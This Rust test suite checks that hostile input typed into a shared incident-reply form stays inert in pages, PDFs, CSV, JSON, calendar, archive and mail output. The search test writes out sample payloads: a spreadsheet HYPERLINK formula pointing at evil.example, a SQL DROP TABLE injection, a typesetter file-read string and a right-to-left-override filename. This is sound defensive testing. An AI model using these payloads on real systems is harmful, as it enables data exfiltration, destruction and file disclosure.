//! What strangers type who mean no good, or who type what others do not: it arrives as text wherever it comes out, and nowhere as
//! anything else.

use std::collections::BTreeSet;

use calcard::icalendar::{ICalendar, ICalendarComponentType};
use mail_parser::{HeaderName, MessageParser};
use serde_json::Value;
use tellonce::domain::text::{Line, Prose, is_direction, isolated};
use tellonce::intake::files::safe_name;
use tellonce::render::export::table::TableName;
use tellonce::render::pdf::glyphs::{Substitutions, clean};

use crate::exports::unzipped;
use crate::harness::{
    Answer, Browser, Filling, Page, Request, Site, Smtp, Told, on_both, open_incident, text_of_pdf_cell_by_cell, until,
    what_is_live,
};
use crate::sharing::{Given, share};

/// The strings, one of JSON a line.
fn corpus() -> Vec<String> {
    let lines = include_str!("../fixtures/hostile.txt").lines().filter(|line| !line.starts_with('#'));
    lines.map(|line| serde_json::from_str(line).unwrap_or_else(|error| panic!("{line}: {error}"))).collect()
}

/// What a stranger fills in, each with other strings of the corpus.
const FIELDS: [&str; 9] = ["name", "department", "phone", "correction", "answer", "denial", "commit-what", "message", "file"];

/// What the stranger of that number types into a field: two strings, so that half as many strangers type each of them everywhere.
fn typed(corpus: &[String], stranger: usize, field: &str) -> String {
    let place = 2 * stranger + FIELDS.iter().position(|one| *one == field).expect("a field");
    let (one, other) = (&corpus[place % corpus.len()], &corpus[(place + 1) % corpus.len()]);
    match field {
        "name" | "department" | "phone" => format!("{one} {other}"),
        // Of a name that looks like a path, only the end is kept.
        "file" if other.contains(['/', '\\']) => format!("{other} {one}"),
        "file" => format!("{one} {other}"),
        _ => format!("{one}\n{other}"),
    }
}

/// The same as it is to arrive: made sound at the door, and otherwise as it was typed.
fn arrived(corpus: &[String], stranger: usize, field: &str) -> String {
    let typed = typed(corpus, stranger, field);
    match field {
        "name" | "department" | "phone" => Line::parse(&typed).expect("short enough").into(),
        "file" => safe_name(&in_a_header(&typed)),
        _ => Prose::parse(&typed).expect("short enough").into(),
    }
}

/// A file's name as browsers write it into the head of its part (HTML, 4.10.21.8); other control characters make no head at all.
fn in_a_header(name: &str) -> String {
    let name = name.replace('\r', "%0D").replace('\n', "%0A").replace('"', "%22");
    name.chars().filter(|c| *c == '\t' || !c.is_ascii_control()).collect()
}

/// An incident to which strangers have replied.
struct Scene {
    told: Told,
    given: Given,
    corpus: Vec<String>,
    stranger: Browser,
    /// Where each receipt stands.
    receipts: Vec<Page>,
    record: String,
}

impl Scene {
    /// Every string in every field, each of a stranger's fields with other ones.
    fn on(site: &Site) -> Self {
        let mut scene = Self::open(site);
        let door = scene.stranger.fill("/s").form;
        let mut reply = None;
        for n in 0..scene.strangers() {
            let network = format!("203.0.113.{n}");
            scene.comes_in(scene.stranger.filling(door.clone()).from(&network), n);
            let names = ["name", "department"].map(|field| arrived(&scene.corpus, n, field));
            if reply.is_none() || names.iter().any(|name| name.contains(is_direction)) {
                let form = scene.stranger.open(&scene.form());
                is_inert("the form of a reply", &form, &names);
                reply = form.form(&scene.form());
            }
            let form = reply.clone().expect("a form");
            let of = |field: &str| typed(&scene.corpus, n, field);
            let answer = scene.reply(scene.stranger.filling(form).from(network), of);
            scene.receipts.push(scene.stranger.open(&answer.location()));
        }
        scene
    }

    /// Every string in one reply, twice.
    fn of_one(site: &Site) -> Self {
        let scene = Self::open(site);
        scene.comes_in(scene.stranger.fill("/s"), 12);
        let quarter = scene.corpus.len().div_ceil(4);
        let part = |n: usize| scene.corpus.chunks(quarter).nth(n).expect("a quarter").join("\n\n");
        let of = |field: &str| match field {
            "message" => scene.corpus.join("\n\n"),
            "correction" => part(0),
            "answer" => part(1),
            "denial" => part(2),
            "commit-what" => part(3),
            _ => "0".to_owned(),
        };
        scene.reply(scene.stranger.fill(&scene.form()), of);
        scene
    }

    fn open(site: &Site) -> Self {
        let alice = site.alice();
        let told = open_incident(&alice);
        told.form(&alice, "calls/new")
            .with_all(&[("dialled", "2006-11-22T10:20"), ("answered", "2006-11-22T10:21"), ("ended", "2006-11-22T10:40")])
            .choose("s1_company", "Provider P")
            .with_all(&[("outcome", "answered"), ("s1_kind", "claim"), ("s1_words", "The modem is broken")])
            .saved();
        told.form(&alice, "asks/new").with("words", "When was the notice sent?").saved();
        let given = share(&told, &alice);
        let record = format!("/s/view/{}", given.number.replace('-', ""));
        Self { told, given, corpus: corpus(), stranger: site.charlie(), receipts: Vec::new(), record }
    }

    /// How many strangers there are.
    const fn strangers(&self) -> usize {
        self.corpus.len().div_ceil(2)
    }

    /// Where one replies.
    fn form(&self) -> String {
        format!("{}/answer", self.record)
    }

    fn comes_in(&self, filling: Filling<'_>, n: usize) {
        let filling = filling.with_all(&[("number", &self.given.number), ("code", &self.given.code)]);
        let filling = ["name", "department"].iter().fold(filling, |f, field| f.with(field, &typed(&self.corpus, n, field)));
        let answer = filling.send();
        assert_eq!(answer.status, 303, "{:?}: {}", typed(&self.corpus, n, "name"), answer.page().problems());
    }

    /// A reply, in each field what `of` says.
    fn reply(&self, filling: Filling<'_>, of: impl Fn(&str) -> String) -> Answer {
        let names: Vec<String> = filling.form.fields().into_iter().map(|(name, _)| name).collect();
        let words = |of: &str| names.iter().find(|name| name.starts_with(of) && name.ends_with("-words")).expect("a field");
        let agreement = words("a-").replace("-words", "-yes");
        let filling = filling.with_all(&[(&agreement, "no"), ("commit-at", "2006-11-24T15:00")]).with_all(&[
            (words("s-"), &of("correction")),
            (words("q-"), &of("answer")),
            (words("a-"), &of("denial")),
        ]);
        let filling = ["phone", "commit-what", "message"].iter().fold(filling, |f, field| f.with(field, &of(field)));
        let answer = filling.upload(&in_a_header(&of("file")), b"%PDF-1.7");
        assert_eq!(answer.status, 303, "{:?}: {}", of("file"), answer.page().problems());
        answer
    }

    /// All that arrived in these fields.
    fn all(&self, fields: &[&str]) -> Vec<String> {
        let one = |n| fields.iter().map(move |field| arrived(&self.corpus, n, field));
        (0..self.strangers()).flat_map(one).collect()
    }
}

/// On one line, spaces drawn together.
fn drawn_together(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Nothing on the page is live, and each of these can be read on it, by itself or as a part of a sentence.
fn is_inert(what: &str, page: &Page, texts: &[String]) {
    let live = what_is_live(page, what == COPY);
    assert!(live.is_empty(), "{what}: {live:#?}");
    let shown = page.text();
    for text in texts {
        let forms = [text.clone(), isolated(text.clone())].map(|form| drawn_together(&form));
        assert!(forms.iter().any(|form| shown.contains(form)), "{what} does not show {text:?}: {shown}");
    }
}

/// The page that brings its style with it.
const COPY: &str = "the copy for when the line is down";

#[test]
fn what_strangers_type_arrives_as_text_wherever_it_comes_out() {
    on_both(|site| {
        let smtp = Smtp::is_here().then(|| Smtp::that_will("take"));
        if let Some(smtp) = &smtp {
            site.kill();
            site.start_again_with(&["--smtp", &smtp.url, "--mail-from", "tellonce@minato.example"]);
        }
        let scene = Scene::on(site);
        site.verdicts_found();
        on_the_pages_of_the_record(site, &scene);
        on_the_pages_of_the_share(site, &scene);
        on_the_other_pages(site, &scene);
        in_json(site, &scene);
        in_the_calendar(site, &scene);
        in_the_archive(site, &scene);
        if let Some(smtp) = smtp {
            in_mails(site, &scene, &smtp);
        }
        site.run(&["verify"]).ended(0);
    });
}

fn on_the_pages_of_the_record(site: &Site, scene: &Scene) {
    let alice = site.alice();
    let page = alice.open(&scene.told.incident);
    is_inert("the incident's page", &page, &scene.all(&FIELDS));
    let entries: BTreeSet<String> = page.links().into_iter().filter(|link| link.starts_with("/history/entry/")).collect();
    let mut histories = String::new();
    for entry in entries.iter().rev().take(scene.strangers()) {
        let history = alice.open(entry);
        is_inert(entry, &history, &[]);
        histories += &history.text();
    }
    for text in scene.all(&["name", "department", "phone", "correction", "answer", "commit-what", "message"]) {
        assert!(histories.contains(&drawn_together(&text)), "no history shows {text:?}");
    }
    for file in page.links().iter().filter(|link| link.starts_with("/files/")) {
        let answer = alice.get(file).is(200);
        let disposition = answer.header("content-disposition").expect("a name");
        assert!(disposition.is_ascii() && disposition.starts_with("attachment; filename=\""), "{disposition}");
        assert_eq!((disposition.matches('"').count(), answer.all("set-cookie").len()), (2, 0), "{disposition}");
    }
}

fn on_the_pages_of_the_share(site: &Site, scene: &Scene) {
    let alice = site.alice();
    is_inert("the log of the share", &alice.open(&scene.given.page), &scene.all(&["name", "department"]));
    is_inert("the list of the shares", &alice.open(&format!("{}/shares", scene.told.incident)), &[]);
    for lang in ["ja", "en"] {
        let theirs = ["correction", "answer", "denial", "commit-what", "message"];
        let page = scene.stranger.open(&format!("{}?lang={lang}", scene.record));
        is_inert("the reader's page", &page, &scene.all(&theirs));
        is_inert("the form of a reply", &scene.stranger.open(&format!("{}/answer?lang={lang}", scene.record)), &[]);
    }
    for (n, receipt) in scene.receipts.iter().enumerate() {
        let texts = FIELDS.map(|field| arrived(&scene.corpus, n, field));
        is_inert("a receipt", receipt, &texts);
    }
}

fn on_the_other_pages(site: &Site, scene: &Scene) {
    let alice = site.alice();
    let incident = &scene.told.incident;
    let offline = alice.get(&format!("{incident}/offline.html")).is(200).page();
    is_inert(COPY, &offline, &scene.all(&["correction", "answer", "commit-what", "message"]));
    for path in ["/", "/incidents", "/deadlines", "/call-sheet", &format!("{incident}/desk"), &format!("{incident}/summary")] {
        is_inert(path, &alice.open(path), &[]);
    }
    for (asked, shows) in [
        ("HYPERLINK", "=HYPERLINK(\"http://evil.example/?\""),
        ("secret", "#read(\"secret.txt\")"),
        ("DROP", "'; DROP TABLE incidents; --"),
        ("gnp", "invoice\u{202e}gnp.exe"),
        ("\u{8ffd}\u{52a0}", "\u{8ffd}\u{52a0}"),
    ] {
        let query: String = url::form_urlencoded::byte_serialize(asked.as_bytes()).collect();
        let found = alice.open(&format!("/search?q={query}"));
        is_inert("what is found", &found, &[]);
        // What was found is marked within its words.
        assert!(squeezed(&found.text()).contains(&squeezed(shows)), "{asked} does not find {shows:?}: {}", found.text());
    }
}

/// Without white space.
fn squeezed(text: &str) -> String {
    text.split_whitespace().collect()
}

/// Without white space, places to break a long word, and marks above letters, which are read back in their own way.
fn as_printed(text: &str) -> String {
    let is_mark = |c: char| matches!(c, '\u{300}'..='\u{36f}');
    text.chars().filter(|c| !c.is_whitespace() && *c != '\u{200b}' && !is_mark(*c)).collect()
}

#[test]
fn what_strangers_type_is_printed_and_never_read_by_whatever_sets_the_paper() {
    on_both(|site| {
        std::fs::write(site.data().join("secret.txt"), "MarkOfTheSecretQ").expect("it is written");
        let scene = Scene::of_one(site);
        let meeting = site.mei().get(&format!("{}/report.pdf?audience=meeting&lang=en", scene.told.incident)).is(200);
        let theirs = scene.stranger.get(&format!("{}/report.pdf", scene.record)).is(200);
        for pdf in [meeting, theirs] {
            let paper = as_printed(&text_of_pdf_cell_by_cell(&pdf.body));
            assert!(!paper.contains("MarkOfTheSecretQ"), "a file was read");
            for text in &scene.corpus {
                let text: String = Prose::parse(text).expect("short enough").into();
                let printed = as_printed(&clean(&text, &mut Substitutions::default()));
                // One of the two may be torn apart by the end of a page.
                assert!(paper.contains(&printed), "{printed:?} is not on {paper}");
            }
        }
    });
}

/// Every string in a value.
fn strings<'a>(value: &'a Value, found: &mut BTreeSet<&'a str>) {
    match value {
        Value::String(text) => drop(found.insert(text)),
        Value::Array(items) => items.iter().for_each(|item| strings(item, found)),
        Value::Object(fields) => fields.values().for_each(|field| strings(field, found)),
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

fn in_json(site: &Site, scene: &Scene) {
    let exported = site.run(&["export", scene.told.number(), "--format", "json"]).ended(0);
    let exported: Value = serde_json::from_slice(&exported.out).expect("JSON");
    let mut found = BTreeSet::new();
    strings(&exported, &mut found);
    for text in scene.all(&["name", "department", "phone", "correction", "answer", "commit-what", "message", "file"]) {
        assert!(found.contains(text.as_str()), "{text:?} is not in the export");
    }
    let news = site.alice().get(&format!("{}/replies?since=0", scene.told.incident)).is(200).json();
    assert_eq!(news["replies"].as_array().map(Vec::len), Some(scene.strangers()), "{news}");
}

#[test]
fn what_strangers_typed_is_no_formula() {
    on_both(|site| {
        let scene = Scene::on(site);
        let mut cells = BTreeSet::new();
        for lang in ["ja", "en"] {
            for table in TableName::ALL {
                let csv =
                    site.run(&["export", scene.told.number(), "--format", "csv", "--table", table.as_str(), "--lang", lang]);
                cells.extend(cells_of(&csv.ended(0).out));
            }
        }
        for cell in &cells {
            let begins =
                cell.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || is_direction(c) || c == '\u{feff}');
            let signs = ['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];
            assert!(!begins.starts_with(signs) && !cell.starts_with(['\t', '\r']), "{cell:?} is a formula");
        }
        for text in scene.all(&["name", "department", "phone", "correction", "answer", "commit-what", "message", "file"]) {
            let is_there = |cell: &String| cell.strip_prefix('\'').unwrap_or(cell).contains(&text) || cell.contains(&text);
            assert!(cells.iter().any(is_there), "{text:?} is in no table");
        }
    });
}

/// The cells of a CSV file as another program reads them.
fn cells_of(csv: &[u8]) -> Vec<String> {
    let text = csv.strip_prefix("\u{feff}".as_bytes()).expect("a byte order mark");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text);
    let rows = reader.records().map(|row| row.expect("a row with as many cells as the head"));
    rows.flat_map(|row| row.iter().map(str::to_owned).collect::<Vec<_>>()).collect()
}

fn in_the_calendar(site: &Site, scene: &Scene) {
    let alice = site.alice();
    let page = alice.fill_on("/account", "/account/calendar").send().is(200).page();
    let address = page.html.split("/calendar/").nth(1).and_then(|rest| rest.split(".ics").next()).expect("an address");
    calendar_holds(&alice.get(&format!("/calendar/{address}.ics")).is(200).body, scene.strangers());
    // Beside what they committed to: what they answered, and the call.
    let exported = alice.get(&format!("{}/calendar.ics?audience=internal", scene.told.incident)).is(200);
    calendar_holds(&exported.body, scene.strangers() + 1);
}

/// The calendar has so many events, and no line that nobody wrote.
fn calendar_holds(text: &[u8], events: usize) {
    let text = String::from_utf8(text.to_vec()).expect("UTF-8");
    let calendar = ICalendar::parse(&text).unwrap_or_else(|error| panic!("{error:?}: {text}"));
    let found = calendar.components.iter().filter(|part| part.component_type == ICalendarComponentType::VEvent);
    assert_eq!(found.count(), events, "one event for each time they committed to: {text}");
    let unfolded = text.replace("\r\n ", "");
    let names = unfolded.split("\r\n").filter_map(|line| line.split([':', ';']).next()).collect::<BTreeSet<_>>();
    let known = "BEGIN END VERSION PRODID CALSCALE NAME X-WR-CALNAME REFRESH-INTERVAL X-PUBLISHED-TTL UID DTSTAMP DTSTART \
        DTEND LAST-MODIFIED SEQUENCE SUMMARY DESCRIPTION STATUS TRANSP URL";
    let known: BTreeSet<&str> = known.split_whitespace().chain([""]).collect();
    assert_eq!(names.difference(&known).collect::<Vec<_>>(), Vec::<&&str>::new(), "lines that nobody wrote");
    assert!(!unfolded.replace("\r\n", "").contains(['\r', '\n']), "a line ends where none should");
}

/// The zip's files have names that lead nowhere, and its page is as inert as any but for the script that checks them.
fn in_the_archive(site: &Site, scene: &Scene) {
    let alice = site.alice();
    for audience in ["internal", "meeting", "provider"] {
        let answer = alice.get(&format!("{}/archive.zip?audience={audience}&lang=en", scene.told.incident)).is(200);
        let files = unzipped(&answer.body);
        let page = String::from_utf8(files["index.html"].clone()).expect("UTF-8");
        let (before, rest) = page.split_once("<script type=\"module\">").expect("its script");
        let (_, after) = rest.split_once("</script>").expect("its end");
        let page = Page::new(format!("{before}{after}"));
        is_inert(COPY, &page, &scene.all(&["correction", "answer", "commit-what", "message"]));
        let list: Value = serde_json::from_slice(&files["manifest.json"]).expect("JSON");
        let listed = list["files"].as_array().expect("files").len();
        assert_eq!(listed + 1, files.len());
        // Nobody has looked at what strangers sent; our own people alone are told that it is there.
        assert!(!files.keys().any(|path| path.starts_with("files/")), "{:?}", files.keys());
        let left_out = list["left_out"].as_array().map(Vec::len);
        assert_eq!(left_out, Some(if audience == "internal" { scene.strangers() } else { 0 }), "{list}");
    }
}

fn in_mails(site: &Site, scene: &Scene, smtp: &Smtp) {
    let alice = site.alice();
    let reminders = alice.fill_on("/account", "/account/reminders");
    reminders.with_all(&[("address", "alice@minato.example"), ("at", "10:00")]).tick("deadlines").saved();
    alice.fill(&format!("{}/summary", scene.told.incident)).with("to", "board@minato.example").saved();
    site.kill();
    let later = ["--clock", "fixed:2006-11-24T16:00:00+09:00", "--smtp", &smtp.url, "--mail-from", "tellonce@minato.example"];
    site.start_again_with(&later);
    until("both mails arrive", || smtp.taken().len() == 2);
    until("nothing waits", || site.mail_waiting() == 0);
    let committed = scene.all(&["commit-what"]);
    for mail in smtp.taken() {
        let message = MessageParser::default().parse(mail.as_bytes()).expect("a mail");
        let heads = message.headers().iter().map(|header| header.name()).collect::<Vec<_>>();
        for head in ["Bcc", "Cc", "Set-Cookie", "Location"] {
            assert!(!heads.iter().any(|name| name.eq_ignore_ascii_case(head)), "{heads:?}");
        }
        assert_eq!(message.headers().iter().filter(|header| header.name == HeaderName::To).count(), 1, "{heads:?}");
        assert_eq!((message.attachments.len(), message.html_body_count()), (0, message.text_body_count()), "one plain text");
        let body = message.body_text(0).expect("a text");
        assert!(!body.contains(is_direction), "a line is turned round: {body}");
        for words in &committed {
            let words: String = words.chars().filter(|c| !is_direction(*c)).collect();
            assert!(body.lines().any(|line| line.contains(&drawn_together(&words))), "not in the mail: {words:?} in {body}");
        }
    }
}

/// The door as it was filled in, with another body: `fields` are sent as they stand.
fn at_the_door(scene: &Scene, fields: &str) -> Answer {
    let form = scene.stranger.fill("/s").form;
    let own = ["csrf", "key"].map(|name| format!("{name}={}", form.value(name).unwrap_or_default())).join("&");
    let request = Request::new("POST", "/s").header("sec-fetch-site", "same-origin");
    let request = request.header("content-type", "application/x-www-form-urlencoded");
    scene.stranger.send(Request { body: format!("{own}&{fields}").into_bytes(), ..request })
}

#[test]
fn half_a_character_two_megabytes_and_ten_thousand_fields_at_the_door_come_back_with_a_clear_word() {
    on_both(|site| {
        let scene = Scene::open(site);
        let (number, code) = (&scene.given.number, &scene.given.code);
        let is_kept = |answer: &Answer, what: &str| {
            let form = answer.page().form("/s").expect("the form");
            assert_eq!(form.value("department"), Some("technical desk"), "{what}");
        };
        let half = at_the_door(&scene, &format!("number={number}&code=1&department=technical+desk&name=%E5%8A")).is(422);
        is_kept(&half, "half a character");
        let long = "a".repeat(2 * 1024 * 1024);
        let long = format!("number={number}&code={code}&department=technical+desk&name={long}");
        let long = at_the_door(&scene, &long).is(422);
        is_kept(&long, "two megabytes");
        assert!(long.page().shows("300"), "it says how much fits: {}", long.page().problems());
        let many: String = (0..10_000).map(|n| format!("&f{n}={n}")).collect();
        let many = at_the_door(&scene, &format!("number={number}&code=1&department=technical+desk&name=Sato{many}")).is(422);
        is_kept(&many, "ten thousand fields");
        assert!(many.body.len() < 20_000, "what no field holds does not come back: {} bytes", many.body.len());
        let over = "a".repeat(5 * 1024 * 1024);
        let over = at_the_door(&scene, &format!("name={over}")).is(413);
        assert!(over.page().html.contains("<h1>"), "{}", over.page().text());
        // A NUL is nothing that anybody typed.
        at_the_door(&scene, &format!("number={number}&code={code}&department=technical+desk&name=Sa%00to")).is(303);
        let log = site.alice().open(&scene.given.page);
        assert!(log.shows("Sato") && log.text().matches("technical desk").count() == 1, "{}", log.text());
    });
}

#[test]
fn a_reply_that_is_too_long_comes_back_whole_and_none_of_its_words_is_dropped() {
    on_both(|site| {
        let scene = Scene::open(site);
        scene.comes_in(scene.stranger.fill("/s"), 0);
        let form = || scene.stranger.fill(&scene.form());
        let comes_back = |answer: Answer, field: &str, typed: &str| {
            let page = answer.is(422).page();
            assert!(page.html.contains(&format!("id=\"{field}-problem\"")), "{}", page.problems());
            let form = page.form(&scene.form()).expect("the form");
            assert!(form.value(field) == Some(typed) && form.value("phone") == Some("03-5550-0199"), "{field}");
        };
        let filled = form().with("phone", "03-5550-0199");
        let agreement = filled.form.fields().into_iter().map(|(name, _)| name);
        let words = agreement.into_iter().find(|name| name.starts_with("a-") && name.ends_with("-words")).expect("a field");
        let megabytes = "a".repeat(2 * 1024 * 1024);
        comes_back(filled.with("message", &megabytes).send_parts(), "message", &megabytes);
        // As long as a text may be, but not with what was ticked before it.
        let full = "a".repeat(200_000);
        let answered = form().with_all(&[("phone", "03-5550-0199"), (&words, &full), (&words.replace("-words", "-yes"), "yes")]);
        comes_back(answered.send_parts(), &words, &full);
        assert!(!site.alice().open(&scene.told.incident).shows("Reply on the shared page"), "nothing was taken");
        let nul = form().with("message", "kept").upload("a\0b.pdf", b"%PDF-1.7").is(400);
        assert!(nul.page().html.contains("<h1>"), "{}", nul.page().text());
    });
}
